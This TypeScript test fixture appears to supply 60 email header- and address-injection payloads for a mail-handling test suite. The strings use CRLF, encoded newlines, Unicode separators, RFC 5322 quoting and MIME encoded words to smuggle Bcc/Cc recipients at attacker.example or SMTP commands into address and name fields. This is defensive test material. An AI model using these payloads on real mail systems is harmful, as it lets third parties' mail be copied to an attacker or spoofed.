// The 60 tricks of suite 21: addresses and words that would bring a letter to somebody else, or a header into it.

/** Who must never get or stand in the head of a letter. */
export const attacker = 'attacker.example';
const bad = `evil@${attacker}`;
const good = 'victim@example.kz';

/** What is typed in the place of an address. */
export const addressTricks: readonly string[] = [
  `${good},${bad}`,
  `${good}, ${bad}`,
  `${good};${bad}`,
  `${good} ${bad}`,
  `${good}\t${bad}`,
  `${good}\n${bad}`,
  `${good}\r\nBcc: ${bad}`,
  `${good}\nCc: ${bad}`,
  `${good}\r\n\r\nBody`,
  `${good}%0d%0aBcc:${bad}`,
  `${good}%0ABcc:${bad}`,
  `${good}\\r\\nBcc: ${bad}`,
  `${good}\u0000${bad}`,
  `${good}\u2028Bcc: ${bad}`,
  `${good}\u2029Bcc: ${bad}`,
  `${good}\u0085Bcc: ${bad}`,
  `${good}\vBcc: ${bad}`,
  `${good}\u0D0A\u0A0DBcc: ${bad}`,
  `${good}\u560D\u560ABcc: ${bad}`,
  `Victim <${good}>, <${bad}>`,
  `Victim <${good}>`,
  `<${bad}>${good}`,
  `${good}<${bad}>`,
  `"${bad}" ${good}`,
  `"victim@example.kz,"@${attacker}`,
  `"a\r\nBcc: ${bad}"@example.kz`,
  `"a\\" <${bad}>"@example.kz`,
  `"a b"@${attacker}`,
  `(${bad})${good}`,
  `${good}(${bad})`,
  `group:${good},${bad};`,
  `undisclosed:;${bad}`,
  `victim@example.kz@${attacker}`,
  `@${attacker}:${good}`,
  `victim%example.kz@${attacker}`,
  `${attacker}!victim@example.kz\r\nRCPT TO:<${bad}>`,
  `victim@example.kz>\r\nRCPT TO:<${bad}`,
  `victim@example.kz> SIZE=1 <${bad}`,
  `victim@[127.0.0.1]`,
  `=?utf-8?q?victim=0D=0ABcc=3A${bad}?=@example.kz`,
  `=?utf-8?b?dmljdGltDQpCY2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?= <${good}>`,
  `victim@example.kz\u202E,${bad}`,
  `victim@example.kz\uFF0C${bad}`,
  `victim@example.kz\uFF1B${bad}`,
];

/** What is typed in the place of a name or a title. */
export const wordTricks: readonly string[] = [
  `Анна\r\nBcc: ${bad}`,
  `Анна\nBcc: ${bad}`,
  `Анна\rBcc: ${bad}`,
  `Анна%0d%0aBcc: ${bad}`,
  `Анна\u0000Bcc: ${bad}`,
  `Анна\u0085Bcc: ${bad}`,
  `Анна\u2028Bcc: ${bad}`,
  `Анна\u560D\u560ABcc: ${bad}`,
  `=?utf-8?q?=0D=0ABcc=3A_${bad}?=`,
  `=?utf-8?b?DQpCY2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?=`,
  `Анна" <${bad}>`,
  `Анна <${bad}>, `,
  `Анна\r\n\r\n.\r\nMAIL FROM:<${bad}>`,
  `Анна\r\n.\r\nRCPT TO:<${bad}>`,
  `Анна\r\nContent-Type: text/html\r\n\r\n<script>`,
  `${'я'.repeat(90)}\r\n Bcc: ${bad}`,
];
